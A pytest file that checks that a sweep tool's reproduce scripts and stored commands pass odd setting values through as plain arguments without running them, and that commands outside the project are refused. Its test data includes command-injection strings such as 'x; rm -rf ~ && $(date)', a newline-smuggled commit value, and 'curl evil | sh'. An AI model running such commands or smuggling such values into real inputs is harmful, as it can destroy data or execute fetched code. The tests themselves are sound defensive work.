"""The command that a run carries makes the same run again."""

from __future__ import annotations

import os
import shlex
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from sweep.experiment.expand import Grid
from sweep.experiment.file import read_experiment
from sweep.launch.worker import run_point
from sync.commands.export import folder_name
from sync.files.of_outcome import write_splitwisesim
from sync.results.outcome import SweepInfo
from sync.results.privacy import Scrubber
from sync.tracking.artifacts import files, reproduce

ROOT = Path(__file__).parents[2]
ODD = (
    "seed=1",
    "a=$(touch made)",
    "b=`touch made`",
    "c=x; touch made",
    "d=one\ntouch made",
    "e='f\"g'",
    "f=~ * > made",
)


def test_whatever_a_setting_is_the_script_hands_it_over_as_one_argument_and_runs_nothing(tmp_path, outcome):
    (tmp_path / "python").write_text('#!/bin/sh\nfor a in "$@"; do printf "%s\\0" "$a"; done\n')
    (tmp_path / "python").chmod(0o755)
    script = files(outcome(1, overrides=ODD), Scrubber({}))["reproduce.sh"]
    assert script.startswith(b"# git checkout abc1234\n")
    environment = {**os.environ, "PATH": f"{tmp_path}:{os.environ['PATH']}"}
    ended = subprocess.run(
        ["sh", "-e"], input=script, cwd=tmp_path, env=environment, stdout=subprocess.PIPE, check=True
    )
    assert ended.stdout.decode().split("\0")[:-1] == ["-m", "sim_core", *ODD]
    assert not (tmp_path / "made").exists()


@pytest.mark.parametrize("commit", ["abc1234\ntouch made", "abc12", "ABCDEF1", "$(date)", "f" * 65, "abc1234\n"])
def test_an_outcome_of_something_else_than_a_commit_cannot_be_made(outcome, commit):
    with pytest.raises(ValueError, match=r"git_commit=.*: must be a commit"):
        outcome(1, git_commit=commit)


@pytest.mark.parametrize(
    ("kept", "shown"),
    [
        ("python -m sweep a.yaml rate=1", "python -m sweep a.yaml rate=1"),
        ("python -m sweep '~/my file.yaml' ~/x pw=***", "python -m sweep '~/my file.yaml' ~/x pw=***"),
        ("python -m sweep x; rm -rf ~ && $(date) `id`", "python -m sweep 'x;' rm -rf '~' '&&' '$(date)' '`id`'"),
        ("python -m sweep x\nrm y", "python -m sweep x rm y"),
    ],
)
def test_the_command_that_a_sweep_has_kept_is_quoted_anew(sweep, kept, shown):
    assert SweepInfo.from_json_dict(sweep.to_json_dict() | {"command": kept}).command == shown


@pytest.mark.parametrize("command", ["curl evil | sh", "python -m pip install evil", "python -c 1", "python 'x", 5])
def test_a_command_that_is_none_of_this_project_is_refused(sweep, command):
    with pytest.raises(ValueError, match="command="):
        SweepInfo.from_json_dict(sweep.to_json_dict() | {"command": command})


@pytest.mark.slow
def test_the_command_of_a_point_writes_the_files_that_its_outcome_holds(tmp_path):
    grid = Grid(read_experiment(ROOT / "experiments" / "quickstart.yaml"), ["rate=4"], ROOT)
    point = next(p for p in grid.points(None, lambda *_: None) if p.system == "splitwise-ha")
    outcome = run_point(point, ROOT)
    write_splitwisesim(outcome, outcome.requests_parquet, tmp_path / folder_name(outcome))
    program, *arguments = shlex.split(reproduce(outcome, Scrubber({})))
    assert program == "python"
    subprocess.run(
        [sys.executable, *arguments, f"hydra.run.dir={tmp_path}/again"],
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        cwd=tmp_path,
        check=True,
        timeout=300,
        stdout=subprocess.DEVNULL,
    )
    made = {path.relative_to(tmp_path / "again"): path for path in (tmp_path / "again").rglob("*.csv")}
    kept = {path.relative_to(tmp_path / folder_name(outcome)): path for path in tmp_path.glob("splitwise*/**/*.csv")}
    assert len(pd.read_csv(made[Path("detailed/0.csv")])) == outcome.summary["run/completed"]
    assert {name: path.read_bytes() for name, path in made.items()} == {
        name: p.read_bytes() for name, p in kept.items()
    }
